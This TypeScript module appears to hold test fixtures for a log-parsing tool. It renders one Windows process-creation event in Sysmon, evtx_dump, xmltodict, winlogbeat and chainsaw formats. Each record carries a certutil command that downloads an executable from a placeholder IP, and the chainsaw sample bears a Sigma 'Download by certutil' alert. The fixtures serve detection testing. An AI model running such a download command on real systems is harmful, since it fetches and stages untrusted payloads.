import { iso, json, type Sample, START } from "./sample.ts";

export const PROCESS = {
  SubjectUserName: "lena",
  SubjectDomainName: "NORTH",
  NewProcessName: "C:\\Windows\\System32\\certutil.exe",
  CommandLine: "certutil -urlcache -f http://203.0.113.8/p.exe p.exe",
  ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
};
export const PROCESS_SAMPLE = {
  events: 1,
  type: "winsec",
  says: ["-urlcache -f http://203.0.113.8", "NORTH\\lena", "PC-4", "4688"],
  first: START,
};

function evtxRecord(index = 0): Record<string, unknown> {
  return {
    Event: {
      "#attributes": { xmlns: "http://schemas.microsoft.com/win/2004/08/events/event" },
      System: {
        Provider: { "#attributes": { Name: "Microsoft-Windows-Security-Auditing", Guid: "{1}" } },
        EventID: 4688,
        TimeCreated: { "#attributes": { SystemTime: iso(index) } },
        EventRecordID: 900 + index,
        Channel: "Security",
        Computer: "PC-4.north.example",
        Security: null,
      },
      EventData: PROCESS,
    },
  };
}

function separateAttributes(): Record<string, unknown> {
  return {
    Event_attributes: { xmlns: "x" },
    Event: {
      System: {
        Provider_attributes: { Name: "Microsoft-Windows-Security-Auditing" },
        EventID: 4688,
        EventID_attributes: { Qualifiers: "" },
        TimeCreated_attributes: { SystemTime: iso(0) },
        Channel: "Security",
        Computer: "PC-4",
      },
      EventData: PROCESS,
    },
  };
}

function namedData(): Record<string, unknown> {
  return {
    Event: {
      System: {
        Provider: { "@Name": "Microsoft-Windows-Security-Auditing" },
        EventID: { "#text": "4688", "@Qualifiers": "0" },
        TimeCreated: { "@SystemTime": iso(0) },
        Channel: "Security",
        Computer: "PC-4",
      },
      EventData: {
        Data: Object.entries(PROCESS).map(([name, value]) => ({ "@Name": name, "#text": value })),
      },
    },
  };
}

export function beatRecord(index = 0): Record<string, unknown> {
  return {
    "@timestamp": iso(index),
    agent: { type: "winlogbeat", version: "8.12.0" },
    host: { name: "PC-4" },
    log: { level: "information" },
    event: { code: "4688", kind: "event", provider: "Microsoft-Windows-Security-Auditing" },
    message: "A new process has been created.",
    winlog: {
      channel: "Security",
      computer_name: "PC-4.north.example",
      event_id: "4688",
      provider_name: "Microsoft-Windows-Security-Auditing",
      record_id: 900 + index,
      event_data: PROCESS,
    },
  };
}

function flattened(): Record<string, unknown> {
  return {
    "@timestamp": iso(0),
    "host.name": "PC-4",
    "event.code": "4688",
    "winlog.channel": "Security",
    "winlog.event_id": "4688",
    "winlog.computer_name": "PC-4",
    ...Object.fromEntries(
      Object.entries(PROCESS).map(([name, value]) => [`winlog.event_data.${name}`, value]),
    ),
  };
}

export const WINDOWS_SAMPLES: readonly Sample[] = [
  {
    name: "Sysmon, which runs as the system and tells what others do",
    schema: "windows-evtx",
    documents: [
      json({
        Event: {
          System: {
            Provider: { "#attributes": { Name: "Microsoft-Windows-Sysmon" } },
            EventID: 1,
            TimeCreated: { "#attributes": { SystemTime: iso(0) } },
            Channel: "Microsoft-Windows-Sysmon/Operational",
            Computer: "PC-4",
            Security: { "#attributes": { UserID: "S-1-5-18" } },
          },
          EventData: {
            Image: PROCESS.NewProcessName,
            CommandLine: PROCESS.CommandLine,
            ParentImage: PROCESS.ParentProcessName,
            User: "NORTH\\lena",
          },
        },
      }),
    ],
    events: 1,
    type: "winsec",
    says: ["users: NORTH\\lena", "-urlcache -f http://203.0.113.8"],
    first: START,
  },
  { ...PROCESS_SAMPLE, name: "evtx_dump", schema: "windows-evtx", documents: [json(evtxRecord())] },
  {
    ...PROCESS_SAMPLE,
    name: "evtx_dump, attributes apart",
    schema: "windows-evtx",
    documents: [json(separateAttributes())],
  },
  { ...PROCESS_SAMPLE, name: "xmltodict", schema: "windows-evtx", documents: [json(namedData())] },
  { ...PROCESS_SAMPLE, name: "winlogbeat", schema: "winlogbeat", documents: [json(beatRecord())] },
  {
    ...PROCESS_SAMPLE,
    name: "winlogbeat, fields flattened",
    schema: "winlogbeat",
    documents: [json(flattened())],
  },
  {
    ...PROCESS_SAMPLE,
    name: "winlogbeat 6",
    schema: "winlogbeat",
    documents: [
      json({
        "@timestamp": iso(0),
        type: "wineventlog",
        log_name: "Security",
        source_name: "Microsoft-Windows-Security-Auditing",
        event_id: 4688,
        computer_name: "PC-4",
        event_data: PROCESS,
      }),
    ],
  },
  {
    ...PROCESS_SAMPLE,
    name: "chainsaw, hunt",
    schema: "chainsaw",
    alerts: 1,
    documents: [
      json([
        {
          group: "Sigma",
          kind: "individual",
          name: "Download by certutil",
          level: "high",
          timestamp: iso(0),
          document: { kind: "evtx", path: "Security.evtx", data: evtxRecord() },
        },
      ]),
    ],
  },
];
